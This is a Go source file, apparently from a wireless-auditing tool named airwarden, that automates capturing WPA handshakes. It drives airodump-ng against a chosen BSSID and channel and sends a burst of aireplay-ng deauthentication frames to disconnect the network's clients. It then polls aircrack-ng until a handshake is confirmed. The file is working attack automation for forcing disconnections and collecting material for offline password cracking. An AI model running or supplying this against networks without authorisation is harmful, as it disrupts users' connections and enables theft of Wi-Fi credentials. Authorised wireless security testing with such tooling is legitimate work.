package handshake

import (
	"context"
	"errors"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/google/uuid"

	"github.com/lcalzada-xor/airwarden/internal/adapters/process"
	"github.com/lcalzada-xor/airwarden/internal/core/domain"
	"github.com/lcalzada-xor/airwarden/internal/core/ports"
)

// Config tunes one capture attempt.
type Config struct {
	Dir            string
	StartupDelay   time.Duration
	DeauthCount    int
	DeauthTimeout  time.Duration
	PollInterval   time.Duration
	MinCaptureSize int64
	VerifyTimeout  time.Duration
	DefaultTimeout time.Duration
}

// DefaultConfig returns the stock capture timings.
func DefaultConfig(dir string) Config {
	return Config{
		Dir:            dir,
		StartupDelay:   3 * time.Second,
		DeauthCount:    10,
		DeauthTimeout:  15 * time.Second,
		PollInterval:   2 * time.Second,
		MinCaptureSize: 10000,
		VerifyTimeout:  10 * time.Second,
		DefaultTimeout: 120 * time.Second,
	}
}

var handshakeCountRegex = regexp.MustCompile(`(\d+)\s+handshake`)

// Capturer implements ports.HandshakeCapturer with airodump-ng, aireplay-ng
// and aircrack-ng.
type Capturer struct {
	launcher *process.Launcher
	cfg      Config
	now      func() time.Time
}

var _ ports.HandshakeCapturer = (*Capturer)(nil)

// NewCapturer creates a handshake capturer writing under cfg.Dir.
func NewCapturer(launcher *process.Launcher, cfg Config) *Capturer {
	return &Capturer{launcher: launcher, cfg: cfg, now: time.Now}
}

// HealthCheck verifies the aircrack-ng suite is installed.
func (c *Capturer) HealthCheck(ctx context.Context) error {
	return c.launcher.Require("airodump-ng", "aireplay-ng", "aircrack-ng")
}

// Capture records the target channel, deauthenticates its clients once and
// polls the capture until aircrack-ng confirms a handshake or the timeout
// fires.
func (c *Capturer) Capture(ctx context.Context, req ports.CaptureRequest) (ports.CaptureResult, error) {
	if err := os.MkdirAll(c.cfg.Dir, 0755); err != nil {
		return ports.CaptureResult{}, fmt.Errorf("create capture dir: %w", err)
	}
	timeout := req.Timeout
	if timeout <= 0 {
		timeout = c.cfg.DefaultTimeout
	}

	id := uuid.New().String()[:8]
	base := filepath.Join(c.cfg.Dir, captureName(req.SSID, req.BSSID, c.now()))
	capPath := base + "-01.cap"

	runCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	log.Printf("[HS-CAPTURE-%s] Starting capture of %s on channel %d", id, req.BSSID, req.Channel)
	p, err := c.launcher.Start(runCtx, false, "airodump-ng",
		"--bssid", req.BSSID,
		"--channel", strconv.Itoa(req.Channel),
		"--write", base,
		"--output-format", "pcap",
		req.Interface)
	if err != nil {
		return ports.CaptureResult{}, err
	}
	defer p.Stop()

	select {
	case <-time.After(c.cfg.StartupDelay):
	case <-p.Done():
		return ports.CaptureResult{}, fmt.Errorf("airodump-ng exited during startup: %v", p.Err())
	case <-runCtx.Done():
		return ports.CaptureResult{}, deadlineErr(ctx, timeout)
	}

	c.deauth(runCtx, id, req)

	ticker := time.NewTicker(c.cfg.PollInterval)
	defer ticker.Stop()
	for {
		select {
		case <-ticker.C:
			info, err := os.Stat(capPath)
			if err != nil || info.Size() <= c.cfg.MinCaptureSize {
				continue
			}
			if c.verify(runCtx, capPath) {
				log.Printf("[HS-CAPTURE-%s] Handshake confirmed in %s", id, capPath)
				return ports.CaptureResult{File: capPath}, nil
			}
		case <-p.Done():
			return ports.CaptureResult{}, fmt.Errorf("airodump-ng exited: %v", p.Err())
		case <-runCtx.Done():
			return ports.CaptureResult{}, deadlineErr(ctx, timeout)
		}
	}
}

func (c *Capturer) deauth(ctx context.Context, id string, req ports.CaptureRequest) {
	_, err := c.launcher.Output(ctx, c.cfg.DeauthTimeout, "aireplay-ng",
		"--deauth", strconv.Itoa(c.cfg.DeauthCount),
		"-a", req.BSSID,
		req.Interface)
	if err != nil {
		// capture continues; clients may reconnect on their own
		log.Printf("[HS-CAPTURE-%s] Deauth failed: %v", id, err)
		return
	}
	log.Printf("[HS-CAPTURE-%s] Sent %d deauth frames to %s", id, c.cfg.DeauthCount, req.BSSID)
}

// verify asks aircrack-ng whether the capture holds a handshake. aircrack
// exits non-zero without a wordlist, so only its output is inspected.
func (c *Capturer) verify(ctx context.Context, capPath string) bool {
	out, err := c.launcher.Output(ctx, c.cfg.VerifyTimeout, "aircrack-ng", capPath)
	var timeoutErr *domain.ProcessTimeoutError
	if errors.As(err, &timeoutErr) || ctx.Err() != nil {
		return false
	}
	return HasHandshake(string(out))
}

func deadlineErr(ctx context.Context, timeout time.Duration) error {
	if ctx.Err() != nil {
		return ctx.Err()
	}
	return &domain.ProcessTimeoutError{Command: "airodump-ng", Timeout: timeout}
}

// HasHandshake reports whether aircrack-ng output mentions a handshake.
// An explicit "0 handshake" count does not qualify.
func HasHandshake(output string) bool {
	lower := strings.ToLower(output)
	matches := handshakeCountRegex.FindAllStringSubmatch(lower, -1)
	if len(matches) == 0 {
		return strings.Contains(lower, "handshake")
	}
	for _, m := range matches {
		if n, err := strconv.Atoi(m[1]); err == nil && n > 0 {
			return true
		}
	}
	return false
}

func captureName(ssid, bssid string, at time.Time) string {
	name := sanitize(ssid)
	if name == "" {
		name = "hidden"
	}
	return fmt.Sprintf("hs_%s_%s_%s", name, strings.ReplaceAll(bssid, ":", "-"), at.Format("20060102_150405"))
}

func sanitize(s string) string {
	var b strings.Builder
	for _, r := range s {
		if (r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') || (r >= '0' && r <= '9') || r == '-' || r == '_' {
			b.WriteRune(r)
		} else {
			b.WriteRune('_')
		}
	}
	return b.String()
}
